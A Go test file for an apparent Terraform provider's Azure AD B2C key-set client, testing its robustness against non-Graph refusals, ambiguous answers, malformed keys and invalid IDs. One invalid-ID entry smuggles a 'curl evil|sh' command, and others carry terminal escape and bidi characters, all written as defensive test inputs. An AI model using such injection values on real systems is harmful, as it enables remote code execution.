// Copyright (c) The terraform-provider-trustframework Authors
// SPDX-License-Identifier: MPL-2.0

package trustframework_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/trustframework/terraform-provider-trustframework/internal/emulator"
	"github.com/trustframework/terraform-provider-trustframework/internal/trustframework"
)

// notGraphs are bodies of refusals that aren't Graph's own.
func notGraphs() map[string]string {
	return map[string]string{
		"HTML":           "<html><title>Blocked</title></html>",
		"nothing":        " ",
		"cut":            `{"error":{"code":"AADB2C95`,
		"no code":        `{"error":{"message":"no"}}`,
		"an odd code":    `{"error":{"code":"a b\u001b[31m","message":"no"}}`,
		"another's JSON": `{"statusCode":403,"message":"Forbidden"}`,
	}
}

// TestClient_OnlyGraphsOwnRefusalIsOne: the work is done, and something else answers. The key set and the key are found, once each.
func TestClient_OnlyGraphsOwnRefusalIsOne(t *testing.T) {
	t.Parallel()
	for _, status := range []int{400, 401, 403, 404, 409, 410, 422, 429, 451, 499} {
		for name, body := range notGraphs() {
			if status != 403 && name != "HTML" {
				continue // a body makes no difference to one status alone
			}
			t.Run(fmt.Sprintf("%d/%s", status, name), func(t *testing.T) {
				t.Parallel()
				w := newWorld(t, emulator.Switches{})
				for _, op := range []emulator.Op{emulator.OpCreate, emulator.OpGenerateKey} {
					w.Inject(emulator.Fault{Op: op, Commit: true, Status: status, Body: body, ContentType: "text/html"})
				}
				set, err := w.client.CreateKeySet(t.Context(), timeout, "Test")
				if err != nil || !set.Recovered || w.count(emulator.OpCreate) != 1 {
					t.Errorf("key set: got %+v and %v after %d requests, want it found after one", set, err, w.count(emulator.OpCreate))
				}
				key, err := w.client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct"})
				if err != nil || !key.Recovered || w.count(emulator.OpGenerateKey) != 1 || w.keys("B2C_1A_Test") != 1 {
					t.Errorf("key: got %+v and %v after %d requests and %d keys, want it found after one", key, err, w.count(emulator.OpGenerateKey), w.keys("B2C_1A_Test"))
				}
			})
		}
	}
}

// TestClient_SomethingBlocksEveryRequest: what answers in Graph's place twice is not asked again.
func TestClient_SomethingBlocksEveryRequest(t *testing.T) {
	t.Parallel()
	w := newWorld(t, emulator.Switches{})
	w.AddKeySet("Test")
	w.Inject(emulator.Fault{Op: emulator.OpGenerateKey, Status: 403, Body: "<html>Blocked</html>", Times: -1})
	_, err := w.client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct"})
	var e *trustframework.Error
	if !errors.As(err, &e) || e.Kind != trustframework.KindUnknownOutcome || !e.NotGraphs || !strings.Contains(e.Message, "Blocked") {
		t.Errorf("got %v, want an unknown outcome with the words of what blocks", err)
	}
	if n := w.count(emulator.OpGenerateKey); n != 2 {
		t.Errorf("%d requests, want 2", n)
	}
}

// TestClient_ARefusalOfSomebodyElse to a DELETE or PATCH doesn't say that nothing was done.
func TestClient_ARefusalOfSomebodyElse(t *testing.T) {
	t.Parallel()
	for _, status := range []int{400, 403, 404, 409, 410, 451} {
		t.Run(fmt.Sprint(status), func(t *testing.T) {
			t.Parallel()
			w, kids := statusWorld(t, emulator.Switches{}, emulator.KeySpec{}, emulator.KeySpec{})
			for _, op := range []emulator.Op{emulator.OpDelete, emulator.OpPatchKey} {
				w.Inject(emulator.Fault{Op: op, Commit: true, Status: status, Body: "<html>", ContentType: "text/html"})
			}
			for what, err := range map[string]error{
				"PATCH":  w.client.SetStatus(t.Context(), statusSet, kids[0], "disabled", false),
				"DELETE": w.client.DeleteKeySet(t.Context(), statusSet, false),
			} {
				var e *trustframework.Error
				if !errors.As(err, &e) || e.Kind != trustframework.KindUnavailable || !e.NotGraphs {
					t.Errorf("%s: got %v, want %s that isn't Graph's", what, err, trustframework.KindUnavailable)
				}
			}
		})
	}
}

// TestClient_MakeKey_AnAnswerThatWasGivenBefore is no answer: the key that was made is found.
func TestClient_MakeKey_AnAnswerThatWasGivenBefore(t *testing.T) {
	t.Parallel()
	for name, hold := range map[string]bool{"of the set": false, "held": true} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, emulator.Switches{})
			w.AddKeySet("Test")
			old := "x4Zk3wN5b0bXlC1y9V7mQm2J4h8e6uTtFqG0aR5sDfE"
			if hold {
				w.client.Hold("Test", old) // it doesn't show
			} else {
				old = w.AddKey("Test", emulator.KeySpec{Kty: "oct", Use: "sig"})
			}
			w.Inject(emulator.Fault{
				Op: emulator.OpGenerateKey, Commit: true, Status: 200, ContentType: "application/json",
				Body: `{"kid":"` + old + `","use":"sig","kty":"oct"}`,
			})
			key, err := w.client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct"})
			if err != nil || key.Kid == old || !key.Recovered || w.count(emulator.OpGenerateKey) != 1 {
				t.Errorf("got %+v and %v after %d requests, want another key than %s, found after one", key, err, w.count(emulator.OpGenerateKey), old)
			}
		})
	}
}

// badIDs can stand in no address, on no screen or in no command.
func badIDs() []string {
	return []string{"..", ".", "a/b", "B2C_1A_A/evil; curl evil|sh", "a b", "a\x1b[2Kb", "a\nb", "a\u202eb", "a\u200bb", "a\ufe0fb", "a\u3164b", "a\u2800b", "a?b", "a#b", "a%2fb", "it's", strings.Repeat("a", 300), "a\u0085b"}
}

// TestClient_IDsThatCantBeIDs: no key or key set with such an id gets to a caller, and the others of a list do.
func TestClient_IDsThatCantBeIDs(t *testing.T) {
	t.Parallel()
	for _, id := range badIDs() {
		t.Run(fmt.Sprintf("%.20q", id), func(t *testing.T) {
			t.Parallel()
			quoted, err := json.Marshal(id)
			if err != nil {
				t.Fatal(err)
			}
			w := newWorld(t, emulator.Switches{})
			w.AddKeySet("Test")
			kid := w.AddKey("Test", emulator.KeySpec{Kty: "oct", Use: "sig"})
			answer := func(op emulator.Op, body string) {
				w.Inject(emulator.Fault{Op: op, Commit: true, Status: 200, ContentType: "application/json", Body: body})
			}
			// A key that is made: the answer is none, the key is found.
			answer(emulator.OpGenerateKey, `{"kid":`+string(quoted)+`,"use":"sig","kty":"oct"}`)
			key, err := w.client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct"})
			if err != nil || !key.Recovered || trustframework.IDProblem(key.Kid) != "" {
				t.Errorf("generate key: got %+v, %v, want the key found", key, err)
			}
			// The active key.
			answer(emulator.OpGetActiveKey, `{"kid":`+string(quoted)+`,"use":"sig","kty":"oct"}`)
			if key, err := w.newClient(t).ActiveKey(t.Context(), "Test"); trustframework.KindOf(err) != trustframework.KindUnavailable {
				t.Errorf("active key: got %+v, %v, want %s", key, err, trustframework.KindUnavailable)
			}
			// Another set of the listing.
			client := w.newClient(t)
			w.ResetJournal()
			answer(emulator.OpList, `{"value":[{"id":`+string(quoted)+`,"keys":[]},{"id":"B2C_1A_Test","keys":[{"kid":"`+kid+`","use":"sig","kty":"oct"}]}]}`)
			if _, _, err := client.Key(t.Context(), "Test", kid, false); err != nil || w.count(emulator.OpGet) != 0 {
				t.Errorf("read key beside a set with such an ID: got %v after %d reads, want it out of the listing", err, w.count(emulator.OpGet))
			}
			if sets, err := client.KeySets(t.Context(), func(string) bool { return true }); err == nil {
				t.Errorf("all key sets: got %v, want an error", sets)
			} else if strings.ContainsAny(err.Error(), "\x1b\n\u202e\u0085") {
				t.Errorf("all key sets: got %q, want nothing that steers a terminal", err)
			}
			// Another key of the set: which keys the set has is not known.
			client = w.newClient(t)
			set := `{"id":"B2C_1A_Test","keys":[{"kid":"` + kid + `","use":"sig","kty":"oct"},{"kid":` + string(quoted) + `,"use":"sig","kty":"oct"}]}`
			w.Inject(emulator.Fault{Op: emulator.OpList, Status: 200, ContentType: "application/json", Body: `{"value":[` + set + `]}`})
			w.Inject(emulator.Fault{Op: emulator.OpGet, Status: 200, ContentType: "application/json", Body: set})
			if _, _, err := client.Key(t.Context(), "Test", kid, false); err != nil {
				t.Errorf("read key beside a key with such a kid: got %v, want it", err)
			}
			if _, _, err := client.Key(t.Context(), "Test", "another", false); trustframework.KindOf(err) != trustframework.KindKeysHidden {
				t.Errorf("read another key beside a key with such a kid: got %v, want %s", err, trustframework.KindKeysHidden)
			}
		})
	}
}

// TestClient_IDsThatCantBeIDs_AreNeverSent: a state that was edited leads to no other address.
func TestClient_IDsThatCantBeIDs_AreNeverSent(t *testing.T) {
	t.Parallel()
	for _, id := range badIDs() {
		t.Run(fmt.Sprintf("%.20q", id), func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, emulator.Switches{ListRefused: true})
			w.AddKeySet("Test")
			w.ResetJournal()
			for _, err := range []error{
				w.client.SetStatus(t.Context(), "Test", id, "enabled", false),
				w.client.DeleteKeySet(t.Context(), "x/"+id, false),
				func() error { _, err := w.client.HasKeySet(t.Context(), "x/"+id, false); return err }(),
				func() error { _, err := w.client.ActiveKey(t.Context(), "x/"+id); return err }(),
				func() error {
					_, err := w.client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "x/" + id, Use: "sig", Kty: "oct"})
					return err
				}(),
			} {
				if err == nil {
					t.Error("got no error, want one")
				}
			}
			for _, e := range w.Journal() {
				if e.Op != emulator.OpList && e.Op != emulator.OpListKeys && e.Op != emulator.OpToken && e.Op != emulator.OpDiscovery && e.Op != emulator.OpGet {
					t.Errorf("%s %s was sent", e.Method, e.Path)
				}
				if strings.Contains(e.Path, "x/") || strings.Contains(e.Path, "x%2") {
					t.Errorf("%s %s was sent", e.Method, e.Path)
				}
			}
		})
	}
}

// TestClient_ASuccessOfAnotherKind: a DELETE or PATCH is done if its answer says so, or if a look shows it.
func TestClient_ASuccessOfAnotherKind(t *testing.T) {
	t.Parallel()
	denied := `{"error":{"code":"AccessDenied","message":"Not today."}}`
	for name, row := range map[string]struct {
		status int
		body   string
		done   bool
		fails  bool
		looks  bool
	}{
		"204":                              {status: 204, done: true},
		"200 without a body":               {status: 200, done: true},
		"200 with an error, not done":      {status: 200, body: denied, fails: true, looks: true},
		"200 with an error, done":          {status: 200, body: denied, done: true, looks: true},
		"200 with the object, done":        {status: 200, body: `{"id":"B2C_1A_Status"}`, done: true, looks: true},
		"200 with HTML, done at the end":   {status: 200, body: "<html>", done: true, looks: true},
		"200 with HTML, not done":          {status: 200, body: "<html>", fails: true, looks: true},
		"202, not done":                    {status: 202, fails: true, looks: true},
		"202, done":                        {status: 202, done: true, looks: true},
		"206 with JSON, not done":          {status: 206, body: `{}`, fails: true, looks: true},
		"201 with the object, not done":    {status: 201, body: `{"id":"B2C_1A_Status"}`, fails: true, looks: true},
		"203 of a proxy, without a body":   {status: 203, fails: true, looks: true},
		"200 with white space only, done":  {status: 200, body: " \r\n", done: true},
		"200 with JSON null, and not done": {status: 200, body: `null`, fails: true, looks: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w, kids := statusWorld(t, emulator.Switches{}, emulator.KeySpec{}, emulator.KeySpec{})
			for _, op := range []emulator.Op{emulator.OpDelete, emulator.OpPatchKey} {
				w.Inject(emulator.Fault{Op: op, Commit: row.done, Status: row.status, Body: row.body, ContentType: "application/json", Times: -1})
			}
			err := w.client.SetStatus(t.Context(), statusSet, kids[0], "disabled", false)
			if (err != nil) != row.fails {
				t.Errorf("PATCH: got %v, want an error: %t", err, row.fails)
			}
			if row.fails && strings.Contains(row.body, "Not today") && (!strings.Contains(err.Error(), "Not today.") || !strings.Contains(err.Error(), "AccessDenied")) {
				t.Errorf("PATCH: got %v, want the service's words and code", err)
			}
			if row.fails && trustframework.KindOf(err) != trustframework.KindUnavailable {
				t.Errorf("PATCH: got %s, want %s", trustframework.KindOf(err), trustframework.KindUnavailable)
			}
			w.ResetJournal()
			err = w.client.DeleteKeySet(t.Context(), statusSet, false)
			if (err != nil) != row.fails {
				t.Errorf("DELETE: got %v, want an error: %t", err, row.fails)
			}
			if row.fails && trustframework.KindOf(err) != trustframework.KindUnavailable {
				t.Errorf("DELETE: got %s, want %s", trustframework.KindOf(err), trustframework.KindUnavailable)
			}
			if looked := w.count(emulator.OpGet) > 0; looked != row.looks {
				t.Errorf("DELETE: looked: %t, want %t", looked, row.looks)
			}
		})
	}
}

// TestClient_CreateKeySet_WithoutAListing reads the set first: somebody else's empty set isn't taken for the one that a
// lost request has made.
func TestClient_CreateKeySet_WithoutAListing(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct {
		there  bool // before
		unread bool // the read of the set fails too
		commit bool
		kind   trustframework.Kind
	}{
		"an empty set of the name":                 {there: true, kind: trustframework.KindExists},
		"an empty set of the name that can't show": {there: true, unread: true, kind: trustframework.KindExists},
		"nothing, and the request was worked on":   {commit: true},
		"nothing, and it wasn't":                   {},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, emulator.Switches{ListRefused: true})
			if row.there {
				w.AddKeySet("Test")
			}
			if row.unread {
				w.Inject(emulator.Fault{Op: emulator.OpGet, Status: 403, Code: "AADB2C", Message: "no"})
			}
			w.Inject(emulator.Fault{Op: emulator.OpCreate, Status: 503, Commit: row.commit})
			set, err := w.client.CreateKeySet(t.Context(), timeout, "Test")
			if trustframework.KindOf(err) != row.kind || (err == nil) != (row.kind == "") {
				t.Errorf("got %+v and %v, want %q", set, err, row.kind)
			}
		})
	}
}

// TestClient_CreateKeySet_ThatWasThere: a service that says that it has made a set which was there before isn't believed if the set goes
// on holding keys, and is believed where that one was deleted and shows late.
func TestClient_CreateKeySet_ThatWasThere(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct {
		keys    int  // before
		deleted bool // by another process, which shows late
		kind    trustframework.Kind
		existed bool
	}{
		"with keys":                   {keys: 1, kind: trustframework.KindExists},
		"empty":                       {existed: true},
		"with keys, and deleted late": {keys: 1, deleted: true},
		"empty, and deleted late":     {deleted: true, existed: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, emulator.Switches{})
			w.AddKeySet("Test")
			for range row.keys {
				w.AddKey("Test", emulator.KeySpec{Kty: "oct", Use: "sig"})
			}
			if row.deleted {
				w.Inject(emulator.Fault{Op: emulator.OpDelete, Lag: settleTime / 3})
				if err := w.newClient(t).DeleteKeySet(t.Context(), "Test", false); err != nil {
					t.Fatal(err)
				}
			} else {
				w.Inject(emulator.Fault{Op: emulator.OpCreate, Status: 201, ContentType: "application/json", Body: `{"id":"B2C_1A_Test","keys":[]}`})
			}
			set, err := w.client.CreateKeySet(t.Context(), timeout, "Test")
			if trustframework.KindOf(err) != row.kind || (err == nil) != (row.kind == "") || set.Existed != row.existed {
				t.Errorf("got %+v and %v, want %q and existed: %t", set, err, row.kind, row.existed)
			}
		})
	}
}

// TestClient_CreateKeySet_ASuccessThatIsNone: nothing is made, and something else answers.
func TestClient_CreateKeySet_ASuccessThatIsNone(t *testing.T) {
	t.Parallel()
	for _, body := range []string{
		`{"id":"B2C_1A_Test"}`, // the request's own body
		`{"id":"B2C_1A_Test","keys":[{"kid":"k","use":"sig","kty":"oct"}]}`,
		`{"id":"B2C_1A_Test","keys":[],"error":{"code":"AccessDenied"}}`,
	} {
		t.Run(body, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, emulator.Switches{})
			w.Inject(emulator.Fault{Op: emulator.OpCreate, Status: 200, ContentType: "application/json", Body: body})
			_, err := w.client.CreateKeySet(t.Context(), timeout, "Test")
			if err != nil || w.count(emulator.OpCreate) != 2 || w.keys("B2C_1A_Test") != 0 {
				t.Errorf("got %v after %d requests, want the set made by the second", err, w.count(emulator.OpCreate))
			}
		})
	}
}

// TestClient_MakeKey_AnAnswerOfAnotherSet is no answer, be that set there or not.
func TestClient_MakeKey_AnAnswerOfAnotherSet(t *testing.T) {
	t.Parallel()
	for name, deleted := range map[string]bool{"another set": false, "the set of this name before": true} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, emulator.Switches{})
			from, in := "Other", trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct"}
			if deleted {
				from = "Test"
			}
			create := func(set string) {
				t.Helper()
				if _, err := w.client.CreateKeySet(t.Context(), timeout, set); err != nil {
					t.Fatal(err)
				}
			}
			create(from)
			old, err := w.client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: from, Use: "sig", Kty: "oct"})
			if err != nil {
				t.Fatal(err)
			}
			if deleted {
				if err := w.client.DeleteKeySet(t.Context(), from, false); err != nil {
					t.Fatal(err)
				}
			}
			create("Test")
			w.ResetJournal()
			w.Inject(emulator.Fault{Op: emulator.OpGenerateKey, Commit: true, Status: 200, ContentType: "application/json", Body: `{"kid":"` + old.Kid + `","use":"sig","kty":"oct"}`})
			key, err := w.client.MakeKey(t.Context(), timeout, in)
			if err != nil || key.Kid == old.Kid || !key.Recovered || w.count(emulator.OpGenerateKey) != 1 {
				t.Errorf("got %+v and %v, want another key than %s, found", key, err, old.Kid)
			}
		})
	}
}

// TestClient_MakeKey_OtherDatesThanAskedFor: such an answer may be about another request. What shows is taken, once.
func TestClient_MakeKey_OtherDatesThanAskedFor(t *testing.T) {
	t.Parallel()
	asked := int64(1_900_000_000)
	for name, row := range map[string]struct{ shown, want string }{
		"a service that moves dates": {`{"kid":"answered","use":"sig","kty":"oct","nbf":1800000000}`, "answered"},
		"another request's":          {`{"kid":"made","use":"sig","kty":"oct","nbf":1900000000}`, "made"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			posts, shown := 0, ""
			client := service(func(req *http.Request) (*http.Response, error) {
				if req.Method == http.MethodPost {
					posts++
					shown = row.shown
					return reply{status: 200, body: []byte(`{"kid":"answered","use":"sig","kty":"oct","nbf":1800000000}`)}.answer(req)
				}
				set := `{"id":"B2C_1A_Test","keys":[` + shown + `]}`
				if strings.HasSuffix(req.URL.Path, "/keySets") {
					set = `{"value":[` + set + `]}`
				}
				return reply{status: 200, body: []byte(set)}.answer(req)
			}).client(t)
			key, err := client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct", Nbf: &asked})
			if err != nil || key.Kid != row.want || posts != 1 {
				t.Errorf("got %+v and %v after %d requests, want key %q after one", key, err, posts, row.want)
			}
		})
	}
}

// TestClient_ADoubtIsNotForgotten when the transport sends the request again, and the answer to that is clear.
func TestClient_ADoubtIsNotForgotten(t *testing.T) {
	t.Parallel()
	for _, status := range []int{200, 302, 401, 429, 502} {
		t.Run(fmt.Sprint(status), func(t *testing.T) {
			t.Parallel()
			w, kids := statusWorld(t, emulator.Switches{}, emulator.KeySpec{}, emulator.KeySpec{})
			w.Inject(emulator.Fault{Op: emulator.OpPatchKey, Commit: true, Status: status, Body: "<html>", ContentType: "text/html", Lag: settleTime / 2})
			w.Inject(emulator.Fault{Op: emulator.OpPatchKey, Status: 400, Code: "BadRequest", Message: "no"})
			if err := w.client.SetStatus(t.Context(), statusSet, kids[0], "disabled", false); err == nil && status != 302 {
				t.Error("got no error, want one")
			}
			if err := w.client.SetStatus(t.Context(), statusSet, kids[1], "disabled", false); trustframework.KindOf(err) != trustframework.KindLastUsable {
				t.Errorf("the second key: got %v, want %s: the first may be disabled", err, trustframework.KindLastUsable)
			}
		})
	}
}

// TestClient_ActiveKey_APageIsNoAnswer: that it names no key says nothing of the set.
func TestClient_ActiveKey_APageIsNoAnswer(t *testing.T) {
	t.Parallel()
	for _, status := range []int{400, 405, 410, 451, 499} {
		t.Run(fmt.Sprint(status), func(t *testing.T) {
			t.Parallel()
			w, _ := statusWorld(t, emulator.Switches{}, emulator.KeySpec{})
			w.Inject(emulator.Fault{Op: emulator.OpGetActiveKey, Status: status, Body: "<html>Blocked</html>", ContentType: "text/html"})
			if _, err := w.client.ActiveKey(t.Context(), statusSet); trustframework.KindOf(err) != trustframework.KindUnavailable {
				t.Errorf("got %v, want %s", err, trustframework.KindUnavailable)
			}
		})
	}
}

// TestClient_AListOfAMillion elements that are none ends in an error, not in memory.
func TestClient_AListOfAMillion(t *testing.T) {
	t.Parallel()
	for _, element := range []string{"0", "{}"} {
		t.Run(element, func(t *testing.T) {
			t.Parallel()
			list := strings.TrimSuffix(strings.Repeat(element+",", 1_000_000), ",")
			client := service(func(req *http.Request) (*http.Response, error) {
				if strings.HasSuffix(req.URL.Path, "/keySets") {
					return reply{status: 200, body: []byte(`{"value":[` + list + `]}`)}.answer(req)
				}
				return reply{status: 200, body: []byte(`{"id":"B2C_1A_Test","keys":[` + list + `]}`)}.answer(req)
			}).client(t)
			if _, err := client.KeySet(t.Context(), "Test", false); trustframework.KindOf(err) != trustframework.KindUnavailable {
				t.Errorf("got %v, want %s", err, trustframework.KindUnavailable)
			}
		})
	}
}

// TestClient_WhatCantBeReadOfASet spoils neither the listing nor the other sets.
func TestClient_WhatCantBeReadOfASet(t *testing.T) {
	t.Parallel()
	const good = `{"id":"B2C_1A_Good","keys":[{"kid":"good","use":"sig","kty":"oct","nbf":1893456000}]}`
	for _, odd := range []string{
		`{"kid":"odd","use":"sig","kty":"oct","nbf":"soon"}`,
		`{"kid":"odd","use":"sig","kty":"oct","nbf":1.5e300}`,
		`{"kid":"odd","use":"sig","kty":"oct","exp":{}}`,
		`{"kid":"odd","use":["sig"],"kty":"oct"}`,
		`{"kid":"odd","use":"sig","kty":"oct","x5c":5}`,
		`{"kid":"odd","use":"sig","kty":"o\u001bct"}`,
		`{"kid":"odd","use":"sig\u202e","kty":"oct"}`,
		`{"kid":5,"use":"sig","kty":"oct"}`,
		`"odd"`,
		`null`,
	} {
		t.Run(odd, func(t *testing.T) {
			t.Parallel()
			set := `{"id":"B2C_1A_Odd","keys":[` + odd + `]}`
			reads := 0
			client := service(func(req *http.Request) (*http.Response, error) {
				if strings.HasSuffix(req.URL.Path, "/keySets") {
					return reply{status: 200, body: []byte(`{"value":[` + set + `,` + good + `]}`)}.answer(req)
				}
				reads++
				return reply{status: 200, body: []byte(set)}.answer(req)
			}).client(t)
			if key, _, err := client.Key(t.Context(), "Good", "good", false); err != nil || key.Nbf == nil || reads != 0 {
				t.Errorf("the other set: got %+v and %v after %d reads, want its key out of the listing", key, err, reads)
			}
			_, err := client.KeySet(t.Context(), "Odd", false)
			if trustframework.KindOf(err) != trustframework.KindKeysHidden {
				t.Errorf("the set itself: got %v, want %s", err, trustframework.KindKeysHidden)
			}
			if _, err := client.HasKeySet(t.Context(), "Odd", false); err != nil {
				t.Errorf("that the set is there: got %v, want no error", err)
			}
		})
	}
}

// TestClient_WhatAKeyIsWholeWithout is left out if it has another form than its kind, or repeats a secret, and hides nothing else.
func TestClient_WhatAKeyIsWholeWithout(t *testing.T) {
	t.Parallel()
	const secret = "canary-of-a-secret" //nolint:gosec // it is made up for a test
	set := `{"id":"B2C_1A_Test","keys":[{"kid":"k","use":"sig","kty":"RSA","nbf":1893456000.0,"n":"a b","e":"\u001b[31m","x5t":"` + secret + `","x5c":["a\u0000b"],"status":"` + secret + `"}]}`
	client := service(func(req *http.Request) (*http.Response, error) {
		if req.Method == http.MethodPost {
			return reply{status: 400, body: []byte(`{"error":{"code":"AADB2C95033"}}`)}.answer(req)
		}
		return reply{status: 200, body: []byte(set)}.answer(req)
	}).client(t)
	in := trustframework.UploadSecretInput{KeySetID: "Test", Use: "sig", Secret: secret}
	if _, err := client.MakeKey(t.Context(), timeout, in); trustframework.KindOf(err) != trustframework.KindRefused {
		t.Fatal(err)
	}
	got, err := client.CurrentKeySet(t.Context(), "Test")
	want := trustframework.Key{Kid: "k", Use: "sig", Kty: "RSA", Nbf: ptr(int64(1893456000))}
	if err != nil || len(got.Keys) != 1 || !reflect.DeepEqual(got.Keys[0], want) {
		t.Errorf("got %+v, %v, want %+v", got.Keys, err, want)
	}
}

// TestClient_IDsThatDifferInCase: both sets are listed, and each is read by its own id.
func TestClient_IDsThatDifferInCase(t *testing.T) {
	t.Parallel()
	sets := map[string]string{
		"B2C_1A_Test": `{"id":"B2C_1A_Test","keys":[{"kid":"upper","use":"sig","kty":"oct"}]}`,
		"B2C_1A_test": `{"id":"B2C_1A_test","keys":[{"kid":"lower","use":"sig","kty":"oct"}]}`,
	}
	client := service(func(req *http.Request) (*http.Response, error) {
		if _, id, ok := strings.Cut(req.URL.Path, "/keySets/"); ok {
			return reply{status: 200, body: []byte(sets[id])}.answer(req)
		}
		return reply{status: 200, body: []byte(`{"value":[` + sets["B2C_1A_Test"] + `,` + sets["B2C_1A_test"] + `]}`)}.answer(req)
	}).client(t)
	got, err := client.KeySets(t.Context(), func(string) bool { return true })
	if err != nil || len(got) != 2 || got[0].ID != "B2C_1A_Test" || got[0].Keys[0].Kid != "upper" || got[1].ID != "B2C_1A_test" || got[1].Keys[0].Kid != "lower" {
		t.Errorf("got %+v, %v, want both sets with their own keys", got, err)
	}
	for id, kid := range map[string]string{"B2C_1A_Test": "upper", "B2C_1A_test": "lower"} {
		if _, _, err := client.Key(t.Context(), id, kid, false); err != nil {
			t.Errorf("key of %s: got %v, want it", id, err)
		}
	}
}

// TestClient_PagesWithoutAnEnd: a list whose pages never end is given up, and each set read by itself.
func TestClient_PagesWithoutAnEnd(t *testing.T) {
	t.Parallel()
	for name, filling := range map[string]string{"small": "", "large": strings.Repeat(" ", 1<<20)} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			pages, size := 0, 0
			client := service(func(req *http.Request) (*http.Response, error) {
				if strings.HasSuffix(req.URL.Path, "/keySets") {
					pages++
					body := fmt.Appendf(nil, `{"value":[%s],"@odata.nextLink":"https://graph.test/beta/trustFramework/keySets?$skiptoken=%d"}`, filling, pages)
					size += len(body)
					return reply{status: 200, body: body}.answer(req)
				}
				return reply{status: 200, body: []byte(`{"id":"B2C_1A_Test","keys":[{"kid":"k","use":"sig","kty":"oct"}]}`)}.answer(req)
			}).client(t)
			if _, _, err := client.Key(t.Context(), "Test", "k", false); err != nil {
				t.Errorf("got %v, want the key out of the set itself", err)
			}
			if pages > 200 || size > 70<<20 {
				t.Errorf("read %d pages of %d MB, want at most 200 and 64 MB", pages, size>>20)
			}
		})
	}
}

// TestClient_YoungAge is the settle time where that is longer than ten minutes: a key that shows late, but within it, isn't gone.
func TestClient_YoungAge(t *testing.T) {
	t.Parallel()
	w := newWorld(t, emulator.Switches{})
	w.AddKeySet("Test")
	w.AddKey("Test", emulator.KeySpec{Kty: "oct", Use: "sig"})
	const settle, lag, later = 15 * time.Minute, 13 * time.Minute, 10*time.Minute + 40*time.Second
	client := w.settlingClient(t, settle)
	if got := client.YoungAge(); got != settle {
		t.Errorf("got %s, want %s", got, settle)
	}
	if got := w.client.YoungAge(); got != 10*time.Minute {
		t.Errorf("got %s, want 10m", got)
	}
	made := w.clock.Now()
	w.Inject(emulator.Fault{Op: emulator.OpGenerateKey, Lag: lag})
	key, err := client.MakeKey(t.Context(), timeout, trustframework.GenerateKeyInput{KeySetID: "Test", Use: "sig", Kty: "oct"})
	if err != nil {
		t.Fatal(err)
	}
	w.clock.Advance(later)
	// In this process, and in the next one, which knows when the key was made.
	if set, err := client.CurrentKeySet(t.Context(), "Test"); err != nil || len(set.Keys) != 2 {
		t.Errorf("got %+v, %v, want both keys", set, err)
	}
	other := w.settlingClient(t, settle)
	young := w.clock.Now().Sub(made) < other.YoungAge()
	if _, _, err := other.Key(t.Context(), "Test", key.Kid, young); err != nil {
		t.Errorf("got %v, want the key", err)
	}
}
